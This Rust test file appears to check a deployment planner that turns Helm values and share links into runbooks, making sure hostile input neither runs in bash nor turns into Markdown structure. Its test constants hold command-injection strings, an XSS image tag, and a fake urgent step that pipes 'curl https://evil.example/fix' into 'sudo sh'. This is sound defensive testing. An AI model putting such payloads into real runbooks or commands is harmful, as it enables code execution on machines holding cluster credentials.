//! A share link is someone else's values file, and the runbook is pasted into a shell that holds
//! cluster credentials. These tests feed hostile values through every input the runbook uses (the
//! values file, each choice the CLI and the page take, and share links) and then:
//! - run every bash block of every runbook in bash, with the cluster tools stubbed out, and check
//!   that nothing injected ran and that every block is valid bash;
//! - read every runbook as a Markdown viewer does, and check that no value became a heading, a
//!   list, a table cell, a link or HTML: values appear only inside code spans and code blocks.
//!
//! A plan may also be refused, but only with a located message (a line in the values, or the
//! choice that is wrong).

use planner::plan::TlsModel;
use planner::{plan, share, Choices, Implementation, ImplementationId, PlanError};
use pulldown_cmark::{CodeBlockKind, Event, Options, Parser, Tag, TagEnd};
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

/// Every implementation in the registry.
fn implementations() -> impl Iterator<Item = ImplementationId> + Clone {
    planner::IMPLEMENTATIONS.iter().map(|i| i.id)
}

/// What a hostile value carries: shell that would create files in `dir` if it ran.
fn shell_payload(dir: &Path) -> String {
    let d = dir.display();
    format!("x$(touch {d}/dollar)`touch {d}/backtick`';touch {d}/single;'\";touch {d}/double;\"\ntouch {d}/newline\n|| touch {d}/or #")
}

/// Markdown that would add its own section, a link and HTML to the runbook.
const MARKDOWN_PAYLOAD: &str = "x\n\n## 0. URGENT: run this first\n\n```bash\ncurl https://evil.example/fix | sudo sh\n```\n\n[click here](https://evil.example/a) <https://evil.example/b> //evil.example/c <img src=x onerror=alert(1)> | cell |";

/// A YAML double-quoted scalar holding `s` (JSON strings are valid YAML double-quoted scalars).
fn y(s: &str) -> String {
    serde_json::to_string(s).unwrap()
}

/// A values file: a realistic ingress with `field` set to `value` (YAML text, already quoted).
fn values_with(field: &str, value: &str) -> String {
    let mut annotations = vec![
        ("cert-manager.io/cluster-issuer", y("letsencrypt-prod")),
        ("nginx.ingress.kubernetes.io/proxy-body-size", y("100m")),
    ];
    let mut ingress_extra = String::new();
    let mut server_extra = String::new();
    let mut gateway = String::new();
    let mut root = String::new();
    let mut class = "nginx".to_string();
    let mut host = y("zenml.example.com");
    let mut path = y("/");
    let mut secret = y("zenml-tls");
    match field {
        "ingress.host" => host = value.into(),
        "ingress.path" => path = value.into(),
        "ingress.tls.secretName" => secret = value.into(),
        "ingress.className" => class = value.into(),
        "serverURL" | "dashboardURL" | "rootUrlPath" => server_extra = format!("  {field}: {value}\n"),
        "proxyHeaders.forwardedAllowIPs" => {
            server_extra = format!("  proxyHeaders:\n    enabled: true\n    forwardedAllowIPs: {value}\n")
        }
        "nameOverride" | "fullnameOverride" => root = format!("{field}: {value}\n"),
        f if f.starts_with("gateway.") => {
            let key = &f["gateway.".len()..];
            let line = match key.split_once('.') {
                Some((parent, child)) => format!("    {parent}:\n      {child}: {value}\n"),
                None => format!("    {key}: {value}\n"),
            };
            gateway = format!("  gateway:\n    enabled: true\n{line}");
        }
        f if f.starts_with("annotation:") => {
            let key = &f["annotation:".len()..];
            if key.starts_with("alb.") {
                class = "alb".into();
            }
            if key.starts_with("cert-manager.io/") {
                annotations.retain(|(k, _)| !k.starts_with("cert-manager.io/"));
            }
            if key == "nginx.ingress.kubernetes.io/session-cookie-name" {
                annotations.push(("nginx.ingress.kubernetes.io/affinity", y("cookie")));
            }
            annotations.push((key, value.into()));
        }
        "annotation-key" => ingress_extra = format!("      {value}: {}\n", y("on")),
        other => panic!("unknown field {other}"),
    }
    let annotation_lines: String = annotations.iter().map(|(k, v)| format!("      {k}: {v}\n")).collect();
    format!(
        "{root}server:\n  image:\n    tag: 0.94.3\n{server_extra}  ingress:\n    enabled: true\n    className: {class}\n    host: {host}\n    path: {path}\n    annotations:\n{annotation_lines}{ingress_extra}    tls:\n      enabled: true\n      secretName: {secret}\n{gateway}"
    )
}

/// Every values field a hostile file can set that the plan reads, as `(field, prefix)`: the
/// prefix makes the value look legitimate before the payload starts.
const VALUE_FIELDS: &[(&str, &str)] = &[
    ("ingress.host", "zenml.example.com"),
    ("ingress.path", "/zenml"),
    ("ingress.tls.secretName", "zenml-tls"),
    ("ingress.className", "nginx"),
    ("serverURL", "https://zenml.example.com"),
    ("dashboardURL", "https://zenml.example.com"),
    ("rootUrlPath", "/zenml"),
    ("proxyHeaders.forwardedAllowIPs", "10.0.0.0/8"),
    ("nameOverride", "zenml"),
    ("fullnameOverride", "zenml"),
    ("gateway.host", "zenml.example.com"),
    ("gateway.path", "/zenml"),
    ("gateway.sectionName", "https"),
    ("gateway.gatewayRef.name", "shared"),
    ("gateway.gatewayRef.namespace", "infra"),
    ("annotation:cert-manager.io/cluster-issuer", "letsencrypt"),
    ("annotation:cert-manager.io/issuer", "letsencrypt"),
    ("annotation:alb.ingress.kubernetes.io/certificate-arn", "arn:aws:acm:eu-west-1:111122223333:certificate/ab-12"),
    ("annotation:alb.ingress.kubernetes.io/scheme", "internal"),
    ("annotation:alb.ingress.kubernetes.io/healthcheck-path", "/health"),
    ("annotation:alb.ingress.kubernetes.io/target-type", "ip"),
    ("annotation:alb.ingress.kubernetes.io/load-balancer-attributes", "idle_timeout.timeout_seconds=600"),
    ("annotation:alb.ingress.kubernetes.io/inbound-cidrs", "10.0.0.0/8"),
    ("annotation:nginx.ingress.kubernetes.io/proxy-body-size", "100m"),
    ("annotation:nginx.ingress.kubernetes.io/proxy-read-timeout", "600"),
    ("annotation:nginx.ingress.kubernetes.io/proxy-connect-timeout", "30"),
    ("annotation:nginx.ingress.kubernetes.io/session-cookie-name", "route"),
    ("annotation:nginx.ingress.kubernetes.io/whitelist-source-range", "10.0.0.0/8"),
    ("annotation:nginx.ingress.kubernetes.io/denylist-source-range", "10.1.0.0/16"),
    ("annotation:nginx.ingress.kubernetes.io/rewrite-target", "/$2"),
    ("annotation:nginx.ingress.kubernetes.io/configuration-snippet", "more_set_headers x"),
    ("annotation:nginx.ingress.kubernetes.io/not-in-the-table", "1"),
    ("annotation:traefik.ingress.kubernetes.io/router.middlewares", "default-strip@kubernetescrd"),
    ("annotation:external-dns.alpha.kubernetes.io/hostname", "zenml.example.com"),
    ("annotation:example.com/owner", "platform"),
    ("annotation-key", "example.com/owner"),
];

/// Every choice a hostile sender (a link) or a mistaken user (the CLI, the page) can set.
const CHOICE_FIELDS: &[(&str, &str)] = &[
    ("issuer", "ClusterIssuer/letsencrypt"),
    ("certificate-arn", "arn:aws:acm:eu-west-1:111122223333:certificate/ab-12"),
    ("chart-version", "0.94.3-r"),
    ("release", "zenml"),
    ("namespace", "zenml"),
    ("gateway-name", "shared"),
    ("gateway-namespace", "infra"),
    ("host", "zenml.example.com"),
];

fn set_choice(c: &mut Choices, field: &str, value: String) {
    match field {
        "issuer" => c.issuer = Some(value),
        "certificate-arn" => c.certificate_arn = Some(value),
        "chart-version" => c.chart_version = Some(value),
        "release" => c.release = Some(value),
        "namespace" => c.namespace = Some(value),
        "gateway-name" => c.gateway_name = Some(value),
        "gateway-namespace" => c.gateway_namespace = Some(value),
        "host" => c.host = Some(value),
        other => panic!("unknown choice {other}"),
    }
}

/// One input to plan: where the hostile value went, the values text and the choices.
struct Case {
    label: String,
    values: String,
    choices: Choices,
}

fn cases(payload: &str) -> Vec<Case> {
    let mut out = Vec::new();
    let combos = || implementations().flat_map(|i| TlsModel::ALL.into_iter().map(move |t| (i, t)));
    // Each way of deploying in turn, so Argo CD's and Flux's commands meet every payload too.
    let mut turn = 0;
    let mut deployed_with = move || {
        turn += 1;
        planner::DeployedWith::ALL[turn % 3]
    };
    for (field, prefix) in VALUE_FIELDS {
        let raw = if *field == "annotation-key" {
            format!("{prefix}{}", payload.replace('\n', " "))
        } else {
            format!("{prefix}{payload}")
        };
        let values = values_with(field, &y(&raw));
        for (implementation, tls) in combos() {
            let mut choices = Choices::new(implementation);
            choices.tls = Some(tls);
            choices.deployed_with = deployed_with();
            let label = format!("{field} ({implementation:?}, {tls:?}, {:?})", choices.deployed_with);
            out.push(Case { label, values: values.clone(), choices });
        }
    }
    let plain = values_with("ingress.host", &y("zenml.example.com"));
    for (field, prefix) in CHOICE_FIELDS {
        for (implementation, tls) in combos() {
            let mut choices = Choices::new(implementation);
            choices.tls = Some(tls);
            choices.deployed_with = deployed_with();
            set_choice(&mut choices, field, format!("{prefix}{payload}"));
            out.push(Case {
                label: format!("--{field} ({implementation:?}, {tls:?})"),
                values: plain.clone(),
                choices,
            });
        }
    }
    out
}

/// A refusal is fine when it says where: a line in the values, or the choice.
fn assert_located(label: &str, e: &PlanError) {
    match e {
        PlanError::Values(located) => assert!(located.line >= 1 && located.column >= 1, "{label}: {e}"),
        PlanError::Choice { message, .. } => assert!(!message.is_empty(), "{label}: {e}"),
    }
}

/// The runbook's bash blocks, as a Markdown reader finds them.
fn bash_blocks(runbook: &str) -> Vec<String> {
    let mut blocks = Vec::new();
    let mut current: Option<String> = None;
    for event in Parser::new_ext(runbook, Options::ENABLE_TABLES) {
        match event {
            Event::Start(Tag::CodeBlock(CodeBlockKind::Fenced(info))) if &*info == "bash" => {
                current = Some(String::new())
            }
            Event::Text(t) if current.is_some() => current.as_mut().unwrap().push_str(&t),
            Event::End(TagEnd::CodeBlock) => blocks.extend(current.take()),
            _ => {}
        }
    }
    blocks
}

/// Runs each block in its own subshell of one bash, with every cluster tool a function that does
/// nothing. Returns bash's stderr.
fn run_blocks(blocks: &[String], work: &Path) -> String {
    let mut script = String::from(
        "for tool in helm curl dig aws gcloud istioctl argocd flux sudo zenml; do eval \"$tool() { return 0; }\"; done\n\
         kubectl() { echo 203.0.113.10; }   # what reading the Gateway's address gives\n\
         jq() { echo 0.94.3; }   # what reading the chart version gives\n",
    );
    for (i, block) in blocks.iter().enumerate() {
        assert!(!block.contains("__GP_BLOCK__"), "block {i} holds the test's delimiter");
        script.push_str(&format!("( eval \"$(cat <<'__GP_BLOCK__'\n{block}__GP_BLOCK__\n)\" )\n"));
    }
    let mut child = Command::new("bash")
        .arg("-s")
        .current_dir(work)
        .env_clear()
        .env("PATH", "/usr/bin:/bin")
        .env("CHART_VERSION", "0.94.3")
        .env("CERT_MANAGER_VERSION", "v1.21.1")
        // Asked of the user by the event-stream check.
        .env("ZENML_TOKEN", "token")
        .env("RUN_ID", "run")
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .expect("bash runs");
    child.stdin.take().unwrap().write_all(script.as_bytes()).unwrap();
    let out = child.wait_with_output().unwrap();
    String::from_utf8_lossy(&out.stderr).into_owned()
}

fn scratch(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("gp-safety-{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

fn check_shell(cases: &[Case], markers: &Path, work: &Path) -> (usize, usize) {
    let (mut planned, mut refused) = (0, 0);
    for case in cases {
        let p = match plan(&case.values, &case.choices) {
            Ok(p) => p,
            Err(e) => {
                assert_located(&case.label, &e);
                refused += 1;
                continue;
            }
        };
        planned += 1;
        let runbook = p.file("runbook.md").unwrap();
        let blocks = bash_blocks(runbook);
        assert!(blocks.len() >= 8, "{}: only {} bash blocks", case.label, blocks.len());
        let stderr = run_blocks(&blocks, work);
        let ran: Vec<_> = std::fs::read_dir(markers).unwrap().flatten().map(|e| e.file_name()).collect();
        assert!(ran.is_empty(), "{}: the runbook ran injected commands {ran:?}\n{runbook}", case.label);
        // Every tool is a stub and the rest is echo and grep: any word of a value that became a
        // command, and any block that is not valid bash, shows here.
        assert!(stderr.is_empty(), "{}: bash said: {stderr}\n{runbook}", case.label);
    }
    (planned, refused)
}

#[test]
fn hostile_values_and_choices_never_run_in_the_runbook() {
    let markers = scratch("markers");
    let work = scratch("work");
    let payload = shell_payload(&markers);
    let all = cases(&payload);
    let (planned, refused) = check_shell(&all, &markers, &work);
    // Both outcomes must occur: the checks refuse names and versions, and free text still plans.
    assert!(planned > all.len() / 3, "planned {planned} of {}", all.len());
    assert!(refused > 0, "nothing was refused");
    eprintln!("{planned} runbooks run, {refused} plans refused with a located message");
}

#[test]
fn values_the_checks_let_through_are_still_data() {
    // A Gateway API path may hold `;`, `&`, `'`, `!` and `=`: a path that is valid everywhere
    // and still shell syntax. Only the quoting keeps it one word.
    let markers = scratch("quoting-markers");
    let work = scratch("quoting-work");
    let mut all = Vec::new();
    for path in ["/zenml;uname&&uname'", "/a'b;c=d!e&f", "/~root/x:y@z,w"] {
        for field in ["ingress.path", "gateway.path"] {
            let values = values_with(field, &y(path));
            for implementation in implementations() {
                // A TLS model the implementation cannot serve is refused whatever the path.
                let served =
                    TlsModel::ALL.into_iter().filter(|t| Implementation::get(implementation).refusal(*t).is_none());
                for tls in served {
                    let mut choices = Choices::new(implementation);
                    choices.tls = Some(tls);
                    all.push(Case {
                        label: format!("{field} {path} ({implementation:?}, {tls:?})"),
                        values: values.clone(),
                        choices,
                    });
                }
            }
        }
    }
    let (planned, refused) = check_shell(&all, &markers, &work);
    assert_eq!(refused, 0, "these paths are valid Gateway API paths");
    assert_eq!(planned, all.len());
}

#[test]
fn the_quoting_helper_hands_bash_the_exact_value() {
    let values = ["plain", "", "a b", "it's", "$(id)", "`id`", "a\nb", "*", "~", "'\"'\"", "--x", "\\"];
    let script: String = values.iter().map(|v| format!("printf '%s\\0' {}\n", planner::shell::quote(v))).collect();
    let out = Command::new("bash").arg("-c").arg(&script).output().unwrap();
    let got: Vec<String> = out.stdout.split(|&b| b == 0).map(|w| String::from_utf8_lossy(w).into_owned()).collect();
    assert_eq!(&got[..values.len()], &values.map(str::to_string)[..]);
}

#[test]
fn hostile_share_links_never_run_in_the_runbook() {
    let markers = scratch("link-markers");
    let work = scratch("link-work");
    let payload = shell_payload(&markers);
    // A link is made by the sender's planner; a hostile sender can also write the payload by hand,
    // so the receiver's side is checked with the link as read back.
    let mut received = Vec::new();
    for case in cases(&payload).into_iter().step_by(3) {
        let Ok((fragment, _)) = share::link(&case.values, &case.choices) else { continue };
        let shared = share::read_link(&fragment).expect("a link this planner made reads back");
        received.push(Case { label: format!("link: {}", case.label), values: shared.values, choices: shared.choices });
    }
    assert!(received.len() > 50, "only {} links", received.len());
    let (planned, _) = check_shell(&received, &markers, &work);
    assert!(planned > 0);
}

/// Whether any text a reader sees outside code carries the payload's markers.
fn markdown_problems(runbook: &str) -> Vec<String> {
    let mut problems = Vec::new();
    let mut in_code_block = false;
    let mut heading: Option<String> = None;
    let mut cells = 0;
    for event in Parser::new_ext(runbook, Options::ENABLE_TABLES) {
        match event {
            Event::Start(Tag::CodeBlock(_)) => in_code_block = true,
            Event::End(TagEnd::CodeBlock) => in_code_block = false,
            Event::Start(Tag::Heading { .. }) => heading = Some(String::new()),
            Event::End(TagEnd::Heading(_)) => {
                let text = heading.take().unwrap_or_default();
                let numbered = text.split_once(". ").is_some_and(|(n, _)| n.parse::<u8>().is_ok());
                if !(numbered || text.starts_with("Moving ZenML release") || text.starts_with("Before you start")) {
                    problems.push(format!("a heading {text:?}"));
                }
            }
            Event::Code(c) => heading.iter_mut().for_each(|h| h.push_str(&c)),
            Event::Start(Tag::TableRow) | Event::Start(Tag::TableHead) => cells = 0,
            Event::Start(Tag::TableCell) => cells += 1,
            Event::End(TagEnd::TableRow) | Event::End(TagEnd::TableHead) if cells != 2 => {
                problems.push(format!("a table row with {cells} cells"))
            }
            Event::Start(Tag::Link { dest_url, .. }) => problems.push(format!("a link to {dest_url}")),
            Event::Start(Tag::Image { dest_url, .. }) => problems.push(format!("an image from {dest_url}")),
            Event::Html(h) | Event::InlineHtml(h) => problems.push(format!("HTML {h}")),
            Event::Text(t) if !in_code_block => {
                for marker in ["evil.example", "URGENT", "touch ", "onerror"] {
                    if t.contains(marker) {
                        problems.push(format!("{marker:?} outside code in {t:?}"));
                    }
                }
                heading.iter_mut().for_each(|h| h.push_str(&t));
            }
            _ => {}
        }
    }
    problems
}

#[test]
fn hostile_values_stay_inside_code_in_the_runbook() {
    let markers = scratch("md-markers");
    let mut checked = 0;
    for payload in [MARKDOWN_PAYLOAD.to_string(), shell_payload(&markers)] {
        for case in cases(&payload) {
            let Ok(p) = plan(&case.values, &case.choices) else { continue };
            let runbook = p.file("runbook.md").unwrap();
            let problems = markdown_problems(runbook);
            assert!(problems.is_empty(), "{}: {problems:?}\n{runbook}", case.label);
            // Findings are shown on the page and in findings.json with the same code spans.
            for f in &p.findings {
                let outside: String = planner::markdown::spans(&f.message)
                    .into_iter()
                    .filter_map(|s| match s {
                        planner::markdown::Span::Text(t) => Some(t),
                        planner::markdown::Span::Code(_) => None,
                    })
                    .collect();
                assert!(
                    !outside.contains("evil.example") && !outside.contains("touch "),
                    "{}: {}",
                    case.label,
                    f.message
                );
            }
            checked += 1;
        }
    }
    assert!(checked > 500, "only {checked} runbooks checked");
}

#[test]
fn the_markdown_payload_in_a_block_scalar_adds_no_section() {
    // The review's case: a multi-line rewrite-target annotation holding a heading and a fence.
    let values = format!(
        "server:\n  ingress:\n    host: zenml.example.com\n    annotations:\n      nginx.ingress.kubernetes.io/rewrite-target: |\n{}\n",
        MARKDOWN_PAYLOAD.lines().map(|l| format!("        {l}")).collect::<Vec<_>>().join("\n")
    );
    for implementation in implementations() {
        let p = plan(&values, &Choices::new(implementation)).expect("plans");
        let runbook = p.file("runbook.md").unwrap();
        assert!(!runbook.contains("\n## 0. URGENT"), "{runbook}");
        assert_eq!(markdown_problems(runbook), Vec::<String>::new());
        let headings = runbook.lines().filter(|l| l.starts_with('#')).count();
        let plain =
            plan(&values.replace("rewrite-target: |", "rewrite-target-x: |"), &Choices::new(implementation)).unwrap();
        assert_eq!(headings, plain.file("runbook.md").unwrap().lines().filter(|l| l.starts_with('#')).count());
    }
}
